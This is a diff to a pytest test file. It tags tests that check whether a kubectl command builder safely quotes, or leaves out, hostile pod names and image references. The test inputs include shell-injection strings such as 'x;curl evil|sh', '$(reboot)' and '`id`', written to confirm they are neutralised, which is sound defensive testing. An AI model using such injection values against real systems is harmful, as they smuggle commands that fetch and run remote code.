@@ -29,6 +29,7 @@ def test_command_has_the_real_names() -> None:
     ]
 
 
+@pytest.mark.attack(33, "x;curl evil|sh")
 @pytest.mark.parametrize("hostile", ["x;curl<evil|sh", "$(reboot)", "`id`", "a'b", 'a"b', "a&b", "a\\b"])
 def test_command_quotes_a_hostile_name(hostile: str) -> None:
     """It stays one argument, whatever it holds."""
@@ -44,6 +45,7 @@ def test_command_is_left_out_for_a_name_that_misleads(hostile: str) -> None:
     assert _lines("kubectl", "get", "pod", "{pod}", pod=hostile) == []
 
 
+@pytest.mark.attack(33, "none for a reference that does not parse")
 def test_there_is_no_command_for_a_reference_that_does_not_parse() -> None:
     """Even one that does not name the image: copying it would be guessing."""
     assert _lines("kubectl", "get", "pod", "{pod}", image="x;curl evil|sh") == []
